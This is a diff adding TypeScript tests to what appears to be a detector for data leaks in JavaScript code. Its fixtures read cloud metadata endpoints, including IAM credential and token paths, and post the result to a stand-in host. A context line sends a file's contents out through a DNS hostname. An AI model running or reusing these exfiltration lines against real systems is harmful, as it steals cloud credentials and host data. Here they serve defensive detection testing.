@@ -61,6 +61,29 @@ describe('a socket to another program on the machine', () => {
   });
 });
 
+describe('what a cloud tells its machine', () => {
+  const told = (path: string): readonly string[] =>
+    flowsOf(
+      `fetch('http://169.254.169.254/${path}').then((r) => r.text()).then((t) => fetch('https://collect.invalid', { method: 'POST', body: t }));`,
+    );
+
+  it('is credentials where these are told, and wherever one cannot say', () => {
+    for (const path of ['latest/meta-data/iam/security-credentials/role', 'latest/api/token', ''])
+      assert.deepEqual(told(path), ['cloud-metadata>network@collect.invalid'], path);
+    assert.deepEqual(told("' + process.argv[2] + '"), ['cloud-metadata>network@collect.invalid']);
+  });
+
+  it('is which machine it is, where monitors ask', () => {
+    for (const path of [
+      'latest/dynamic/instance-identity/document',
+      'latest/meta-data/instance-id',
+      'metadata/instance?api-version=2021-02-01',
+      'computeMetadata/v1/instance/?recursive=true',
+    ])
+      assert.deepEqual(told(path), ['host-identity>network@collect.invalid'], path);
+  });
+});
+
 describe('a socket to a host whose name holds data', () => {
   it('asks that domain for it', () => {
     const code = `require('net').connect(53, fs.readFileSync(rc, 'hex') + '.collect.invalid');`;
